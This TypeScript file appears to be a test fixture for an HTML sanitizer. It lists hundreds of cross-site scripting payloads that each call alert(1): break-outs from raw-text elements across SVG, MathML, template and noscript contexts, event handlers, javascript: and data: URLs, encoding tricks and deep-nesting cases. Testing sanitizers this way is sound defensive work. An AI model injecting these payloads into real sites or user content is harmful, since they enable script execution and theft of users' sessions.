/** HTML that tries to stay executable after cleaning. Every payload calls `alert` if it runs. */

const image = '<img src=x onerror=alert(1)>'
const holders = [
  ...['xmp', 'iframe', 'noembed', 'noframes', 'plaintext', 'style', 'script', 'title', 'textarea', 'noscript'],
  ...['template', 'listing', 'select', 'option', 'desc', 'mglyph', 'object', 'p'],
]
const places: [string, string][] = [
  ['', ''],
  ...['svg', 'math', 'noscript', 'table', 'select', 'template', 'p', 'button', 'a', 'frameset'].map(
    (name): [string, string] => [`<${name}>`, `</${name}>`],
  ),
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><annotation-xml>', '</annotation-xml></math>'],
  ['<head><noscript>', '</noscript></head>'],
  ['<svg></p><p>', '</p></svg>'],
  ['<form><math><mtext></form><form><mglyph>', '</mglyph></form>'],
  ['<div><template shadowrootmode=open>', '</template></div>'],
]

function breakOuts(name: string): string[] {
  return [
    `<${name}></${name}>${image}</${name}>`,
    `<${name}>&lt;/${name}&gt;&lt;img src=x onerror=alert(1)&gt;</${name}>`,
    `<${name}>&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;</${name}>`,
    `<${name}><p title="</${name}>${image}">x</p></${name}>`,
    `<${name}><!--</${name}>${image}--></${name}>`,
    `<${name}><![CDATA[</${name}>${image}]]></${name}>`,
    `<${name}><img src=x onerror=alert(1)></${name}>`,
  ]
}

/** Raw text, or text that may become raw, in every context with different parsing rules. */
export const breakOutPayloads: string[] = places.flatMap(([open, close]) =>
  holders.flatMap((name) => breakOuts(name).map((html) => open + html + close)),
)

/** Payloads, keyed by the attack they attempt. */
export const namedPayloads: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in SVG', '<svg><script>alert(1)</script></svg>'],
  ['a script in SVG by its URL', '<svg><script href="data:text/javascript,alert(1)"/></svg>'],
  ['an unclosed script', '<script>alert(1)'],
  ['a script inside a tag name', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a handler', '<img src=x onerror=alert(1)>'],
  ['a handler in capitals', '<IMG SRC=x ONERROR=alert(1)>'],
  ['a handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['a handler in SVG', '<svg onload=alert(1)></svg>'],
  ['a handler in MathML', '<math onfocus=alert(1) tabindex=0 autofocus></math>'],
  ['a handler on the body', '<body onload=alert(1)>'],
  ['a handler merged into the body', '<body><p>a<body onload=alert(1)>'],
  ['a handler merged into the root', '<p>a<html onclick=alert(1)>'],
  ['an animation handler', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['a handler on a details element', '<details open ontoggle=alert(1)>'],
  ['a handler that takes the focus', '<input autofocus onfocus=alert(1)>'],
  ['an attribute named by a quote', '<img "onerror="alert(1)" src=x \'onerror=alert(1)>'],
  ['an attribute named by an equals sign', '<img src=x =onerror=alert(1) ="x" onerror=alert(1)>'],
  ['an attribute whose name contains a tag', '<p <script=1 <img/src=x/onerror=alert(1)>a'],
  ['an element whose name contains a tag', '<x<img src=x onerror=alert(1)>a</x<img>'],
  ['a javascript: URL', '<a href="javascript:alert(1)">a</a>'],
  ['a javascript: URL with tabs', '<a href="&#9;java&#9;scr&#10;ipt&#13;:alert(1)">a</a>'],
  ['a javascript: URL after control characters', '<a href="&#1;&#31; javascript:alert(1)">a</a>'],
  ['a javascript: URL with an invalid host', '<a href="javascript://[/%0aalert(1)">a</a>'],
  ['a javascript: URL after a no-break space', '<a href="&nbsp;javascript:alert(1)">a</a>'],
  ['a javascript: URL in entities', '<a href="&#x6A;&#97;vascript&colon;alert(1)">a</a>'],
  ['a javascript: URL in SVG', '<svg><a xlink:href="javascript:alert(1)"><text y=9>a</text></a></svg>'],
  ['a javascript: URL in SVG twice', '<svg><a xlink:href="javascript:alert(1)" href="#a"><text>a</text></a></svg>'],
  ['a javascript: URL in MathML', '<math><mi href="javascript:alert(1)">a</mi></math>'],
  ['a MathML action', '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">a</maction></math>'],
  ['a javascript: URL in a form', '<form action="javascript:alert(1)"><button>a</button></form>'],
  ['a javascript: URL in a button', '<form><button formaction="javascript:alert(1)">a</button></form>'],
  ['a javascript: URL in an image button', '<input type=image formaction="javascript:alert(1)" src=x>'],
  ['a javascript: URL in a frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['a javascript: URL in a frame of a frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['a javascript: URL in an area', '<map name=m><area href="javascript:alert(1)" shape=default></map>'],
  ['a javascript: URL in a srcset', '<img srcset="javascript:alert(1) 1x">'],
  ['another script', '<a href="vbscript:alert(1)">a</a>'],
  ['markup in a data: URL', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['markup in a data: URL of a frame', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  [
    'an SVG image in a data: URL',
    '<iframe src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>"></iframe>',
  ],
  [
    'XML in a data: URL labelled as an image',
    '<iframe src="data:image/x+xml,<s xmlns=%22http://www.w3.org/1999/xhtml%22><script>alert(1)</script></s>"></iframe>',
  ],
  ['XML in a data: URL labelled as a font', '<iframe src="data:font/x+xml,<x/>"></iframe>'],
  ['a data: URL without a comma', '<a href="data:image/png">a</a><iframe src="data:image/"></iframe>'],
  [
    'a use element with a data: URL',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>#x"/></svg>',
  ],
  ['an animated URL', '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>a</text></a></svg>'],
  [
    'an animated URL in another spelling',
    '<svg><a><set attributeName=xlink:href to="javascript:alert(1)"/><text>a</text></a></svg>',
  ],
  [
    'an animation from outside',
    '<svg><a id=t></a><animate href=#t attributeName=href from=javascript:alert(1) to=1 begin=0s /></svg>',
  ],
  ['a frame with its own source', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['a refresh in capitals', '<META HTTP-EQUIV=" ReFresh " CONTENT="0;url=data:text/html,x">'],
  ['a base', '<base href="javascript:/a/"><a href="alert(1)">a</a>'],
  ['a base elsewhere', '<p>a<base href="https://evil.example/"><a href="b">b</a>'],
  ['an xml:base in SVG', '<svg xml:base="javascript:alert(1)//"><a href="#x"><text>a</text></a></svg>'],
  ['a style sheet', '<style>@import "https://evil.example/"</style><p style="background:url(javascript:alert(1))">a'],
  ['a linked style sheet', '<link rel="x STYLESHEET" href="https://evil.example/"><svg><style>*{}</style></svg>'],
  ['a style sheet after a doctype', '<!doctype html><?xml-stylesheet href="javascript:alert(1)"?><p>a'],
  ['a plugin', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x>'],
  ['a shadow root', '<div><template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot></template>a</div>'],
  [
    'a shadow root whose text closes it',
    '<div><template shadowrootmode=open><xmp></template><img src=x onerror=alert(1)></xmp></template></div>',
  ],
  ['a template in a template', '<template><template shadowrootmode=open><style>*{}</style><p>a</template></template>'],
  ['noscript in the head', '<head><noscript><style></noscript><img src=x onerror=alert(1)></style></noscript></head>'],
  ['noscript in an attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['noscript in a text field', '<noscript><textarea></noscript><img src=x onerror=alert(1)></textarea></noscript>'],
  ['noscript in a title of SVG', '<svg><title><noscript></title><img src=x onerror=alert(1)></noscript></title></svg>'],
  [
    'a style in MathML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  ['a style in SVG', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>--!><p>a'],
  ['a processing instruction as a comment', '<?x <img src=x onerror=alert(1)> ?><p>a'],
  ['CDATA', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
  ['CDATA outside SVG', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['a doctype with quotes', `<!DOCTYPE html PUBLIC '"' '"><img src=x onerror=alert(1)>'><p>a`],
  ['a doctype whose name is a tag', '<!DOCTYPE <script>alert(1)</script>'],
  [
    'nested forms',
    '<form id=a><div></form><form id=b><input form=a></div><math><mtext><mglyph><style><img src=x onerror=alert(1)>',
  ],
  ['nested links', '<a href=x><table><tr><td><a href="javascript:alert(1)">a</a></table>'],
  [
    'a table out of order',
    '<table><a href="javascript:alert(1)"><tr><td>a<svg><td><style><img src=x onerror=alert(1)></style>',
  ],
  ['a field in a select', '<select><svg><style><img src=x onerror=alert(1)></style></select>'],
  ['a void element with children', '<svg><link><style></link><img src=x onerror=alert(1)></style></svg>'],
  [
    'an encoding that hides tags',
    '<meta charset="iso-2022-jp"><img alt="\x1b$B" title="\x1b(B onerror=alert(1) src=x">',
  ],
  [
    'a seven-bit encoding',
    '<meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  ],
  ['a carriage return as an entity', '<pre>&#13;&#10;&#13;<a href="java&#13;script:alert(1)">a</a></pre>'],
  ['NUL in names', '<scr\0ipt>alert(1)</script><img src=x on\0error=alert(1) one\0rror=alert(1)>'],
  ['a line break before text', '<pre>\n\n<b>a</b></pre><textarea>\n\n</textarea>'],
  [
    'deep nesting around raw text',
    `${'<div>'.repeat(600)}<xmp></xmp><img src=x onerror=alert(1)></xmp><svg><style><img src=x onerror=alert(1)></style>`,
  ],
  [
    'deeply nested SVG',
    `${'<svg><foreignObject>'.repeat(300)}<style><img src=x onerror=alert(1)></style><xmp><img src=x onerror=alert(1)></xmp>`,
  ],
  ['1,600 attributes', `<img src=x ${Array.from({ length: 1600 }, (_, i) => `a${i}`).join(' ')} onerror=alert(1)>`],
]
